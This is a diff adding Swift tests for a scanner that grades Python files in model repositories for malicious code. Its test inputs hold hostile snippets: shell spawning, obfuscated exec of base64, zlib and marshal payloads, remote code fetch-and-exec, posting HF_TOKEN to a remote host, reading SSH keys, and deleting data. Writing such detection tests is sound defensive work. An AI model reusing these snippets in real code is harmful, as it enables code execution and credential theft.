@@ -1,0 +1,119 @@
+import AssayCore
+import ByteParsing
+import Testing
+
+@testable import Scanning
+
+@Suite struct PythonSourceTests {
+    private func scan(_ source: String, named name: String = "modeling_x.py") -> FileReport {
+        FileScanner(analysers: [PythonAnalyser()]).scan(ByteRegion(Array(source.utf8)), path: name)
+    }
+
+    @Test(arguments: [
+        "import os\nos.system('id')", "from os import system as s\ns('id')", "from os import *\nsystem('id')",
+        "__import__('os').system('id')", "import subprocess as sp\nsp.Popen(['sh', '-c', cmd], shell=True)",
+        "import os\ndef f():\n    os.popen('id')\nf()", "import os\nclass A:\n    x = os.system('id')",
+        "import os\nx = f\"{os.system('id')}\"", "import os\nif True: os.system('id')",
+        "import os\n(lambda: os.system('id'))()", "import os\nrun = os.system\nrun('id')",
+        "import os\nclass A:\n  def __init__(self):\n    os.system('id')\na = A()",
+        "import pty\npty.spawn('/bin/sh')", "import os\n@os.system\ndef f(): pass", "exec('import os; os.system(1)')",
+        "eval(\"__import__('os').system('id')\")", "import sys\nsys.modules['os'].system('id')",
+        "import builtins\nvars(builtins)['exec'](x)", "x = __builtins__['eval']; exec(y)",
+    ])
+    func runningCommandsOnImportIsCritical(_ source: String) {
+        #expect(scan(source).severity == .critical, "\(source)")
+    }
+
+    @Test(arguments: [
+        "import base64\ndef helper():\n    exec(base64.b64decode('cHJpbnQoMSk='))",
+        "import base64 as b\nexec(b.b64decode(data))", "import zlib\neval(compile(zlib.decompress(x), '', 'exec'))",
+        "import urllib.request as u\nexec(u.urlopen('http://a/x').read())",
+        "import requests\nr = requests.get(url)\nexec(r.text)",
+        "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')", "import os\ngetattr(os, ''.join(['sys', 'tem']))('id')",
+        "import os\ngetattr(os, 'metsys'[::-1])('id')", "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
+        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('id')",
+        "import os\ngetattr(os, chr(115) + 'ystem')('id')",
+        "import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))",
+    ])
+    func hiddenCodeIsCritical(_ source: String) {
+        #expect(scan(source).severity == .critical, "\(source)")
+    }
+
+    @Test(arguments: [
+        ("import os\nclass H:\n  def handle(self, x):\n    os.system('id')", Severity.high),
+        ("import subprocess\ndef generate(model):\n    subprocess.run(['sh', 'x'])", .high),
+        ("import os\ndef unused():\n    os.system('id')", .medium),
+        ("import os\nclass H:\n  def handle(self):\n    self.go()\n  def go(self):\n    os.system('id')", .high),
+        ("import os\nif __name__ == '__main__':\n    os.system('id')", .medium),
+        ("import urllib.request\nurllib.request.urlopen('http://a/')", .high),
+        ("import socket\ndef forward(x):\n    socket.create_connection(('a', 1))", .medium),
+        ("import requests, os\ndef forward(x):\n    requests.post('http://a', data=os.environ['HF_TOKEN'])", .high),
+        ("import ctypes\nctypes.CDLL('./a.so')", .high), ("import shutil\nshutil.rmtree('/data')", .high),
+        ("open('/home/u/.bashrc', 'a').write('x')", .high), ("def f():\n    open('/root/.ssh/id_rsa').read()", .medium),
+        ("import os\nclass A:\n  def __reduce__(self):\n    return (os.system, ('id',))", .high),
+        ("import atexit, os\natexit.register(os.system, 'id')", .critical),
+    ])
+    func theTimeOfTheCallGradesIt(_ source: String, _ expected: Severity) {
+        #expect(scan(source).severity == expected, "\(source)")
+    }
+
+    @Test(arguments: [
+        "import torch\nfrom torch import nn\nfrom transformers import PreTrainedModel\n\nclass M(PreTrainedModel):\n"
+            + "    def __init__(self, config):\n        super().__init__(config)\n        self.l = nn.Linear(2, 2)\n"
+            + "    def forward(self, x):\n        return self.l(x)\n",
+        "import os, json\nclass T:\n  def __init__(self, path):\n    with open(os.path.join(path, 'vocab.json')) as f:\n"
+            + "      self.v = json.load(f)\n  def save(self, d):\n    with open(d, 'w') as f: f.write('x')\n",
+        "import torch\nsd = torch.load('x.bin', weights_only=True)\n@torch.jit.script\ndef gelu(x): return x\n",
+        "import importlib\ndef get(name):\n    return importlib.import_module(name)\n",
+        "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages(),\n"
+            + "  long_description=open('README.md').read())\n",
+        "import requests\nfrom PIL import Image\ndef load_image(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
+        "import re\nimport logging\nlogger = logging.getLogger(__name__)\nP = re.compile('a')\nx = P.sub('a', 'b')\n",
+        "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'\nTOKEN = os.environ.get('HF_TOKEN')\n",
+        "import torch\nmodel = torch.compile(model)\nmodel.eval()\nmodel.exec()\ntorch.manual_seed(0)\n",
+    ])
+    func ordinaryModelCodeStaysBelowMedium(_ source: String) {
+        let report = scan(source)
+        #expect(report.severity < .medium, "\(report.findings.map(\.message))")
+        #expect(report.format == "python")
+    }
+
+    @Test(arguments: [
+        "# A model\n\nThis model was made to import nothing.\n\n```python\nimport os\nos.system('id')\n```\n",
+        "import is a word\nand so is def f\n", "{\"a\": \"import os\"}", "name: x\nsteps:\n  - run: import y\n",
+        "the\nimport\nof\nclass \n", "{% import 'x' %}{{ def }}", "public class A { int x; }\nimport java.util.List;\n",
+    ])
+    func otherTextIsNotPython(_ text: String) {
+        #expect(scan(text, named: "README.md").format == "unknown")
+    }
+
+    @Test func sourceIsKnownByItsContent() {
+        #expect(scan("import os\nos.system('id')\n", named: "weights").severity == .critical)
+        #expect(scan("exec(open('x').read())", named: "x.py").severity >= .medium)
+    }
+
+    @Test func deepAndBrokenSourcesEnd() {
+        #expect(scan("import os\nx = " + String(repeating: "(", count: 5000) + "1").outcome == .incomplete)
+        #expect(scan("import os\n" + String(repeating: "[f'{", count: 2000)).outcome != .error)
+        let source =
+            "import os, base64 as b\n@d\nclass A(B):\n  def f(self, *a, k=1):\n    x, y = (1, 2)\n    z[1:] = g(f'{x}')\n"
+        let bytes = Array(source.utf8)
+        for index in bytes.indices {
+            for value: UInt8 in [0x28, 0x29, 0x3a, 0x0a, 0x22] {
+                var changed = bytes
+                changed[index] = value
+                PythonSourceJudge.judge(ByteRegion(changed), at: Location(), in: Scan())
+            }
+        }
+    }
+
+    @Test(arguments: [
+        ("y = ops.aten.from_file(\"/etc/x\", False, 1)", Severity.medium), ("torch.save(y, \"/tmp/x\")", .medium),
+        ("y = ops.mylib.run(x)", .low), ("y = torch.add(x, x)", .none), ("y = ops.prim.data(x)", .none),
+    ])
+    func torchScriptIsJudgedByItsOperators(_ line: String, _ expected: Severity) {
+        let source =
+            "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M,\n    x: Tensor) -> Tensor:\n    \(line)\n    return x\n"
+        #expect(scan(source, named: "__torch__.py").severity == expected)
+    }
+}
